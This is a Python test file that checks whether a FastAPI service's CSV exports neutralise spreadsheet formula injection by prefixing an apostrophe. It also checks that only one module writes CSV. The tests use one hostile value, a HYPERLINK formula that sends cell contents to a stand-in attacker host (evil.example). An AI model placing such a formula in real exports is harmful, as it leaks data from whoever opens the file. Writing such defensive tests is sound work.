"""Every CSV the service hands out neutralises spreadsheet formulas (CSV injection): a stored
text starting with ``= + - @`` comes out as text (with a leading apostrophe), and no module but
the one CSV writer (``geo.csvout``) writes CSV."""

from __future__ import annotations

import ast
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

from fastapi.testclient import TestClient

from app.settings import PROJECT_ROOT
from geo.csvout import csv_text
from tests.test_architecture import INTERNAL

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
BELLEVUE_INSIDE = (-1.60413, 47.20824)


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _assert_neutralised(text: str, delimiter: str = ",") -> None:
    cells = _cells(text, delimiter)
    assert "'" + HOSTILE in cells, "the hostile value is not in the export"
    assert HOSTILE not in cells  # never as a bare formula
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_every_csv_output_neutralises_formulas(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    lon, lat = BELLEVUE_INSIDE
    actor = {
        "nom": HOSTILE,
        "lon": lon,
        "lat": lat,
        "adresse": "+33 rue de la Formule",
        "code_postal": "44100",
        "commune": "Nantes",
        "grounds": ["origine"],
        "domains": ["emploi"],
    }
    assert client.post("/api/actors", json=actor, headers=admin_headers).status_code == 201
    school = {
        "name": HOSTILE,
        "level": "college",
        "sector": "public",
        "insee_code": "44109",
        "commune": "Nantes",
        "lon": lon,
        "lat": lat,
        "priority": "rep",
        "enrolment": 400,
    }
    put = client.put("/api/schools/0449999E", json=school, headers=admin_headers)
    assert put.status_code in (200, 201), put.text
    obs = {
        "id": str(uuid.uuid4()),
        "kind": "gusp",
        "location": {"type": "Point", "coordinates": [lon, lat]},
        "observed_at": (datetime.now(UTC) - timedelta(hours=2)).isoformat(),
        "category": "depot_sauvage",
        "comment": HOSTILE,
    }
    assert client.post("/api/observations", json=obs, headers=admin_headers).status_code == 201

    outputs = {
        "/api/actors/export?format=datainclusion-csv": ",",
        "/api/actors/campaign?format=csv": ";",
        "/api/exhibitions/coverage.csv": ",",
        "/api/exports/observations.csv": ",",
    }
    for url, delimiter in outputs.items():
        resp = client.get(url, headers=admin_headers)
        assert resp.status_code == 200, (url, resp.text[:200])
        assert "csv" in resp.headers["content-type"], url
        _assert_neutralised(resp.text, delimiter)


def test_the_writer_keeps_numbers_and_neutralises_text() -> None:
    text = csv_text(
        ["a", "b", "c", "d"], [["-2", -1.5536, "@SUM(A1)", None], ["+1", 3, "ok", "\tx"]]
    )
    assert _cells(text) == [
        "a",
        "b",
        "c",
        "d",
        "'-2",
        "-1.5536",
        "'@SUM(A1)",
        "",
        "'+1",
        "3",
        "ok",
        "'\tx",
    ]


def _writes_csv(source: str) -> bool:
    for node in ast.walk(ast.parse(source)):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            return True
    return False


def test_no_module_but_the_one_writer_writes_csv() -> None:
    offenders = [
        str(path.relative_to(PROJECT_ROOT))
        for package in sorted(INTERNAL)
        if (PROJECT_ROOT / package).is_dir()
        for path in (PROJECT_ROOT / package).rglob("*.py")
        if _writes_csv(path.read_text(encoding="utf-8"))
    ]
    assert offenders == ["geo/csvout.py"]
    assert _writes_csv("import csv\nw = csv.writer(f)\n")  # the check can fail
